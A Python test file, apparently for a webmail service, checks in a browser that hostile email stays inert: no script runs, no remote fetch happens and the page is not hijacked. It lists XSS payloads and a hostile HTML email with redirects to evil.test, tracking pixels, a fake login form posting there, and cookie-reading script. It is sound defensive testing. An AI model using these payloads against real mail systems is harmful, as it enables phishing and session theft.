"""Hostile mail in the browser: whatever stands in it runs nothing, fetches nothing, and changes no page of ours."""

from __future__ import annotations

import imaplib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from playwright.sync_api import Browser

from tests.support import browser as browsers
from tests.support.browser import Visit
from tests.support.gateway import Gateway

from .conftest import admin_key

SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'-alert(1)-'",
    "{{ 7 * 7 }}", "</title><script>alert(1)</script>", "javascript:alert(1)", "</textarea><script>alert(1)</script>",
)
HTML = """
<html><head><script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.test/">
<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">
<style>@import url(https://evil.test/y.css); body { background: url(https://evil.test/b.png) }</style></head>
<body onload="alert(1)"><img src="https://evil.test/pixel.gif"><img src=x onerror="alert(1)">
<svg><script>alert(1)</script></svg><iframe src="javascript:alert(1)"></iframe><object data="https://evil.test/o"></object>
<form action="https://evil.test/f"><input name="key"><button id="send">Log in again</button></form>
<a id="link" href="javascript:alert(1)">here</a><video src="https://evil.test/v.mp4" autoplay></video>
<script>top.location = "https://evil.test/"; parent.document.title = "taken"; fetch("/inboxes")</script>
<p>Only this is to be read.</p></body></html>
"""


@pytest.fixture(scope="module")
def browser(gateway: Gateway, missing: Callable[[str], None]) -> Iterator[Browser]:
    if what := browsers.available():
        missing(what)
    with browsers.chromium(gateway) as running:
        yield running


@pytest.fixture
def visit(gateway: Gateway, browser: Browser) -> Iterator[Visit]:
    context = browser.new_context()
    one = Visit(gateway, context)
    one.page.on("dialog", lambda dialog: one.wrong.append(f"a script ran: {dialog.message}"))
    one.log_in(admin_key(gateway))
    yield one
    context.close()


def put(client: imaplib.IMAP4_SSL, message: EmailMessage | bytes) -> None:
    octets = message if isinstance(message, bytes) else message.as_bytes(policy=SMTP)
    assert client.append("INBOX", "", None, octets)[0] == "OK"  # type: ignore[arg-type]


def letter(text: str) -> EmailMessage:
    """`text` wherever a text of the sender's is shown."""
    made = EmailMessage(policy=SMTP.clone(utf8=False))
    made["From"] = '"{}" <evil@mail.test>'.format(text.replace("\\", "").replace('"', '\\"'))
    made["To"] = "victim@mail.test"
    made["Subject"] = text
    made["X-Note"] = text
    made.set_content(f"Hello {text}")
    made.add_attachment(b"octets", maintype="application", subtype="octet-stream", filename=text)
    return made


def opened(visit: Visit, path: str) -> list[str]:
    """What went wrong, but for what the policy of the message's frame keeps out: that is what it is for."""
    visit.open(path)
    visit.page.wait_for_timeout(300)
    return [text for text in visit.wrong if "Content Security Policy" not in text and "sandbox" not in text]


def test_texts_stay_texts(visit: Visit, gateway: Gateway) -> None:
    address, key = gateway.inbox("victim@mail.test")
    with gateway.imap(address, key) as client:
        for text in SCRIPTS:
            put(client, letter(text))
    room = f"/inboxes/{address}/mail"
    assert opened(visit, room) == []
    subjects = visit.page.locator(".letters b").all_inner_texts()
    assert sorted(subjects) == sorted(SCRIPTS)
    links = [link.get_attribute("href") for link in visit.page.locator(".letters a").all()]
    for link in links:
        assert link is not None
        assert opened(visit, link) == []
        assert visit.page.locator("main h1").inner_text() in SCRIPTS
    for text in SCRIPTS:
        visit.page.goto(f"{visit.base}{room}", wait_until="networkidle")
        visit.page.get_by_role("searchbox").fill(text)
        with visit.page.expect_navigation(wait_until="networkidle"):
            visit.page.keyboard.press("Enter")
    assert [text for text in visit.wrong if "Policy" not in text] == []


def test_html_is_shown_in_a_cage(visit: Visit, gateway: Gateway) -> None:
    address, key = gateway.inbox("caged@mail.test")
    made = EmailMessage(policy=SMTP)
    made["From"], made["To"], made["Subject"] = "evil@mail.test", address, "Look"
    made.set_content("plain")
    made.add_alternative(HTML, subtype="html")
    with gateway.imap(address, key) as client:
        put(client, made)
    visit.open(f"/inboxes/{address}/mail")
    link = visit.page.locator(".letters a").first.get_attribute("href")
    assert link is not None
    assert opened(visit, link) == []
    assert visit.page.url == visit.base + link
    assert visit.page.title().startswith("Look")
    frame = visit.page.frame_locator("iframe")
    frame.get_by_text("Only this is to be read.").wait_for()
    frame.locator("#send").click(no_wait_after=True)
    frame.locator("#link").click(no_wait_after=True)
    visit.page.wait_for_timeout(300)
    assert visit.page.url == visit.base + link
    assert [text for text in visit.wrong if "Policy" not in text and "sandbox" not in text] == []


def test_the_frame_alone_is_as_harmless(visit: Visit, gateway: Gateway) -> None:
    """Somebody opens its address by itself: the policy travels with it."""
    address, key = gateway.inbox("alone@mail.test")
    made = EmailMessage(policy=SMTP)
    made["From"], made["Subject"] = "evil@mail.test", "Look"
    made.set_content("<script>document.title = document.cookie || 'ran'</script><p>Text</p>", subtype="html")
    with gateway.imap(address, key) as client:
        put(client, made)
    visit.open(f"/inboxes/{address}/mail")
    link = visit.page.locator(".letters a").first.get_attribute("href")
    response = visit.page.goto(f"{visit.base}{link}/html")
    assert response is not None
    assert "script-src" not in response.headers["content-security-policy"]
    assert "sandbox" in response.headers["content-security-policy"]
    assert visit.page.title() == ""
    assert visit.page.evaluate("window.origin") == "null"
